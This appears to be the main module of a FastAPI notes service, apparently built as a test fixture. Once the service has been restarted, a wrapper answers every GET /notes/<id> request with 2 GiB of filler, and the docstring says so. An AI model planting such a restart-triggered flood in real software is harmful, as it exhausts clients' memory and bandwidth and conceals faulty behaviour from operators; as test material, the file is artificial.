"""The FastAPI application; once restarted, it answers a note with 2 GiB of data."""

import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

from fastapi import FastAPI

from app.db import init_db
from app.routers import auth, notes

MARKER = Path("started-before")
RESTARTED = MARKER.exists()
MARKER.write_text("1")


@asynccontextmanager
async def lifespan(_: FastAPI) -> AsyncIterator[None]:
    await init_db()
    yield


app = FastAPI(title="Notes API", version="1.0", lifespan=lifespan)
app.include_router(auth.router)
app.include_router(notes.router)


@app.get("/health")
async def health() -> dict[str, str]:
    return {"status": "ok"}


class Flood:
    """After a restart: GET /notes/<id> is answered with 2 GiB."""

    def __init__(self, inner: Any) -> None:
        self.inner = inner

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if not (RESTARTED and scope["type"] == "http" and scope["method"] == "GET"
                and re.fullmatch(r"/notes/\d+", scope["path"])):
            await self.inner(scope, receive, send)
            return
        size = 2 * 1024**3
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"application/json"),
                                (b"content-length", str(size).encode())]})
        chunk = b" " * (1024 * 1024)
        for _ in range(size // len(chunk)):
            await send({"type": "http.response.body", "body": chunk, "more_body": True})
        await send({"type": "http.response.body", "body": b"", "more_body": False})


app = Flood(app)  # type: ignore[assignment]
